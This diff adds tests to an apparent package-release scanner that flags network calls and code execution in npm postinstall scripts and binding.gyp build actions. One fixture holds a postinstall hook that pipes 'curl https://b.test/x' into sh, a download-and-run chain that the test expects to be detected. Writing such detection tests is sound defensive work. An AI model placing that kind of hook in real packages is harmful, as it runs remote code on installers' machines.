@@ -255,6 +255,27 @@ def test_prepare_runs_for_whoever_depends_on_git() -> None:
     assert found(new, None, {}, "trigger.lifecycle")[0].attributes["for_users"] is True
 
 
+def test_what_a_command_line_is_able_to_do_is_told_where_it_stands() -> None:
+    old = release({"scripts": {"postinstall": "curl -s https://files.example/a.json"}})
+    new = release({"scripts": {"postinstall": "curl -s https://files.example/a.json && curl https://b.test/x | sh"}})
+    told = [each for each in found(new, old) if each.kind.startswith(("capability.", "chain."))]
+    assert {(each.path, each.line, each.attributes["reach"]) for each in told} == {("package.json", 5, "lifecycle")}
+    networks = {str(each.attributes["destination"]): each.delta for each in told if each.kind == "capability.network"}
+    assert sorted(networks.values()) == ["added", "kept"]
+    assert one(told, within="flow").kind == "chain.download-to-run"
+
+
+def test_code_within_a_script_or_an_action_is_read() -> None:
+    code = "require('child_process').exec('echo x')"
+    gyp = f"{{'targets': [{{'actions': [{{'action': ['node', '-e', {code!r}]}}]}}]}}"
+    new = release({"scripts": {"postinstall": f'node -e "{code}"'}}, {"binding.gyp": gyp})
+    told = [each for each in found(new, release({})) if each.attributes.get("api") == "child_process.exec"]
+    assert [(each.path, each.attributes["reach"], each.delta) for each in told] == [
+        ("binding.gyp", "build", "added"),
+        ("package.json", "lifecycle", "added"),
+    ]
+
+
 @pytest.mark.parametrize(
     ("manifest", "runs"),
     [
